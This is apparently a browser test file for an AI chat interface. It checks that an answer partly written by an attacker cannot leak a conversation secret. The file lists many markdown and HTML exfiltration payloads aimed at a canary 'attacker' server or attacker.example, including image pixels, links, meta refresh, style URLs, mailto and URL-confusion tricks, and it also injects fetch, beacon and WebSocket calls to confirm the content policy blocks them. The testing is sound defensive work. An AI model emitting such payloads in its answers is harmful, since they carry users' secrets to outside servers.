// S12: an answer, of which an attacker has written a part, tries to carry a secret away. CANARY is the attacker's server, LISTED one that
// the operator has listed.
import { accessible, browse, folder, must, session } from "./page.mjs";

const { CANARY, LISTED, WINDLASS_URL } = process.env;
const secret = "the-secret-of-the-conversation";
const away = (n) => `${CANARY}/${n}?q=${secret}`;

const hostile = [
  `![pixel](${away("image")})`, `[![pixel](${away("image-in-link")})](${away("link-around-image")})`,
  `[click **here**](${away("link")})`, away("bare"), `<${away("auto")}>`, `[by reference][r] ![by reference][r]`,
  `<img src="${away("html")}"> <a href="${away("html-link")}">x</a> <link rel=prefetch href="${away("prefetch")}">`,
  `<style>body { background: url(${away("style")}) }</style> <meta http-equiv=refresh content="0;url=${away("meta")}">`,
  `[mail](mailto:a@attacker.example?body=${secret})`, `[schemeless](//${CANARY.slice(7)}/x)`,
  `[as user](${WINDLASS_URL.replace("://", "://" + secret + "@")}/)`,
  `[confused](${CANARY}\\@${WINDLASS_URL.slice(7)}/)`,
  `[own](${WINDLASS_URL}/inbox) [listed](${LISTED}/page)`, "", `[r]: ${away("reference")}`,
].join("\n\n");

await browse(async (page) => {
  const outside = [];
  page.on("request", (r) => { if (!r.url().startsWith(WINDLASS_URL)) outside.push(r.url()); });
  const { session: id } = await session("careful", "say:" + JSON.stringify(hostile));
  await page.goto(`${WINDLASS_URL}/sessions/${id}`);
  for (const when of ["as it happens", "after a reload"]) {
    const answer = page.locator(".markdown").last();
    await answer.getByText("click").first().waitFor();
    const hrefs = await answer.locator("a").evaluateAll((all) => all.map((a) => a.getAttribute("href")));
    must(hrefs.join(" ") === `${WINDLASS_URL}/inbox ${LISTED}/page`, `${when}: links are ${hrefs}`);
    must(await answer.locator("img, link, style, meta, iframe, [src], [srcset], [style]").count() === 0, `${when}: elements that load`);
    const text = await answer.innerText();
    for (const n of ["link", "bare", "auto"]) must(text.includes(away(n)), `${when}: the address of ${n} is not shown: ${text}`);
    must(text.split(away("bare")).length === 2, `${when}: a bare address is there twice: ${text}`);
    await answer.getByText("click").first().click();
    await page.getByText(/completed ·/).waitFor();
    if (folder) await page.screenshot({ path: `${folder}/exfiltrate.png`, fullPage: true });
    await page.reload();
  }
  // What a page could do if the renderer failed: the policy of the page stops it.
  await page.evaluate((url) => {
    const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
    add("img", { src: url });
    add("link", { rel: "stylesheet", href: url });
    add("iframe", { src: url });
    add("object", { data: url });
    add("video", { src: url });
    add("script", { src: url });
    document.body.style.backgroundImage = `url(${url})`;
    navigator.sendBeacon(url);
    new WebSocket(url.replace("http", "ws")).onerror = () => {};
    return fetch(url).catch(() => {});
  }, away("page"));
  await page.waitForLoadState("networkidle");
  must(outside.every((u) => u.startsWith(CANARY)), "the page asked others: " + outside);
}, { allowed: (text) => /Content Security Policy|violates the following|net::ERR_BLOCKED_BY_CSP|WebSocket|Refused to connect/.test(text) });
